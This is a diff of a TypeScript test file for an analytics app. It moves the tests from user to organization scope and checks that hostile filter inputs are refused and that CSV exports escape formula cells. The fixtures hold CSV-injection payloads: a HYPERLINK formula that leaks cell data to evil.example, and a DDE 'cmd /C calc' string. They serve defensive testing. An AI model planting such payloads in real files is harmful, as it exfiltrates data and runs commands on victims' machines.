@@ -5,7 +5,7 @@
 import { parse } from "csv-parse/sync";
 import { sql } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { refreshUsageAction } from "@/app/dashboard/actions";
+import { refreshUsageAction } from "@/app/actions/refresh";
 import type { DbHandle } from "@/db/types";
 import {
   buildUsageCsv,
@@ -22,28 +22,28 @@ import {
   withReadTimeout,
 } from "@/lib/analytics";
 import { isAppError } from "@/lib/errors";
-import { fetchAndStoreUsageForUser } from "@/lib/ingestion/fetch-and-store";
+import { fetchAndStoreUsageForOrg } from "@/lib/ingestion/fetch-and-store";
 import { createKey } from "@/lib/keys/create";
 import { createKeySchema } from "@/lib/keys/schemas";
 import { ingestRequestSchema } from "@/lib/usage/schemas";
 import { parseOrThrow } from "@/lib/validation";
-import { createTestDb, createTestUser } from "../test-db";
+import { createTestDb, createTestOrg } from "../test-db";
 import { generateRecords, store } from "./fixture";
 
 const DB = process.env.TEST_DATABASE_URL ? "PostgreSQL" : "PGlite";
 const RANGE = { start: "2025-03-01", end: "2025-03-10" };
 let handle: DbHandle;
-let userId: string;
+let orgId: string;
 let keyId: string;
 let stored: number;
 
 beforeAll(async () => {
   handle = await createTestDb();
-  const user = await createTestUser(handle.db, "hostile");
-  userId = user.id;
-  const key = await createKey(
+  const org = await createTestOrg(handle.db, "owner", "hostile");
+  orgId = org.orgId;
+  const { key } = await createKey(
     handle.db,
-    userId,
+    org.actor,
     createKeySchema.parse({
       provider: "openai",
       label: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -53,7 +53,7 @@ beforeAll(async () => {
   keyId = key.id;
   const records = generateRecords(5, 10, RANGE.start);
   records[0] = { ...records[0]!, model: "@SUM(1+1)*cmd|' /C calc'!A0" };
-  await store(handle.db, { userId, keyId }, records);
+  await store(handle.db, { orgId, accountId: key.accountId }, records);
   stored = records.length;
 });
 afterAll(async () => handle?.close());
@@ -77,20 +77,20 @@ const HOSTILE_FILTERS: [string, Record<string, unknown>, RegExp][] = [
   ["a lone surrogate", { ...RANGE, apiKeyId: "key_\uD800" }, /apiKeyId must be valid Unicode text/],
   ["a tab in a tier", { ...RANGE, serviceTier: "de\tfault" }, /serviceTier must not contain control characters/],
   ["a 10k-character user", { ...RANGE, providerUserId: "u".repeat(10_000) }, /providerUserId must be at most 200/],
-  ["a NUL key id", { ...RANGE, keyId: "\u0000" }, /keyId: must be a provider key id/],
+  ["a NUL account id", { ...RANGE, accountId: "\u0000" }, /accountId: must be a provider account id/],
 ];
 
 describe(`hostile analytics parameters on ${DB}`, () => {
   it.each(HOSTILE_FILTERS)("every read function refuses %s with a 400 that says why", async (_name, filters, why) => {
     const f = filters as never;
     const calls: [string, () => Promise<unknown>][] = [
-      ["totals", () => getUsageTotals(handle.db, userId, f)],
-      ["time series", () => getUsageTimeSeries(handle.db, userId, f, "week")],
-      ["breakdown", () => getUsageBreakdown(handle.db, userId, f, "model")],
-      ["rows", () => listUsageRows(handle.db, userId, f)],
-      ["count", () => countUsageRows(handle.db, userId, f)],
-      ["csv", () => buildUsageCsv(handle.db, userId, f)],
-      ["csv stream", () => streamUsageCsv(handle.db, userId, f)],
+      ["totals", () => getUsageTotals(handle.db, orgId, f)],
+      ["time series", () => getUsageTimeSeries(handle.db, orgId, f, "week")],
+      ["breakdown", () => getUsageBreakdown(handle.db, orgId, f, "model")],
+      ["rows", () => listUsageRows(handle.db, orgId, f)],
+      ["count", () => countUsageRows(handle.db, orgId, f)],
+      ["csv", () => buildUsageCsv(handle.db, orgId, f)],
+      ["csv stream", () => streamUsageCsv(handle.db, orgId, f)],
     ];
     for (const [name, call] of calls) {
       const r = await refusal(call);
@@ -104,7 +104,7 @@ describe(`hostile analytics parameters on ${DB}`, () => {
       { start: "9999-12-01", end: "9999-12-31" },
       { start: "0000-01-01", end: "2025-01-01" },
     ]) {
-      const r = await refusal(() => getFilterOptions(handle.db, userId, range));
+      const r = await refusal(() => getFilterOptions(handle.db, orgId, range));
       expect(r).toEqual({ status: 400, message: expect.stringMatching(/start must be a date between 2000-01-01/) });
     }
   });
@@ -157,7 +157,7 @@ describe(`hostile analytics parameters on ${DB}`, () => {
     expect(ingestRequestSchema.safeParse({ start: "0000-01-01" }).success).toBe(false);
     expect(ingestRequestSchema.safeParse({ end: "9999-12-31" }).success).toBe(false);
     for (const window of [{ start: "0000-01-01" }, { start: "2025-01-01", end: "9999-12-31" }]) {
-      const r = await refusal(() => fetchAndStoreUsageForUser(handle.db, userId, { ...window, trigger: "api" }));
+      const r = await refusal(() => fetchAndStoreUsageForOrg(handle.db, orgId, { ...window, trigger: "api" }));
       expect(r.status).toBe(400);
       expect(r.message).toMatch(/must be a date between 2000-01-01 and/);
     }
@@ -166,24 +166,24 @@ describe(`hostile analytics parameters on ${DB}`, () => {
 
 describe(`CSV export bounds and cells on ${DB}`, () => {
   it("refuses an export over its row cap before streaming, and serves one at the cap", async () => {
-    const over = await refusal(() => streamUsageCsv(handle.db, userId, RANGE, { maxRows: stored - 1 }));
+    const over = await refusal(() => streamUsageCsv(handle.db, orgId, RANGE, { maxRows: stored - 1 }));
     expect(over).toEqual({
       status: 400,
       message: `This export would hold ${stored} rows; one file holds at most ${stored - 1}. Narrow the date range or add a filter.`,
     });
-    const csv = await new Response(await streamUsageCsv(handle.db, userId, RANGE, { maxRows: stored })).text();
+    const csv = await new Response(await streamUsageCsv(handle.db, orgId, RANGE, { maxRows: stored })).text();
     expect(csv.trim().split("\r\n")).toHaveLength(stored + 1);
   });
 
-  it("neutralizes formula cells from a key label and a model name, and keeps numbers as numbers", async () => {
-    const rows = parse(await buildUsageCsv(handle.db, userId, RANGE), { columns: true }) as Record<string, string>[];
+  it("neutralizes formula cells from an account label and a model name, and keeps numbers as numbers", async () => {
+    const rows = parse(await buildUsageCsv(handle.db, orgId, RANGE), { columns: true }) as Record<string, string>[];
     expect(stored).toBeGreaterThan(1);
     expect(rows).toHaveLength(stored);
-    expect(new Set(rows.map((r) => r.provider_key))).toEqual(
+    expect(new Set(rows.map((r) => r.provider_account))).toEqual(
       new Set(['\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")']),
     );
     expect(rows.filter((r) => r.model.startsWith("'@SUM("))).toHaveLength(1);
-    expect(rows.filter((r) => /^[=+\-@\t\r]/.test(r.model) || /^[=+\-@\t\r]/.test(r.provider_key))).toEqual([]);
+    expect(rows.filter((r) => /^[=+\-@\t\r]/.test(r.model) || /^[=+\-@\t\r]/.test(r.provider_account))).toEqual([]);
     expect(rows.every((r) => /^\d+$/.test(r.input_tokens))).toBe(true);
   });
 });
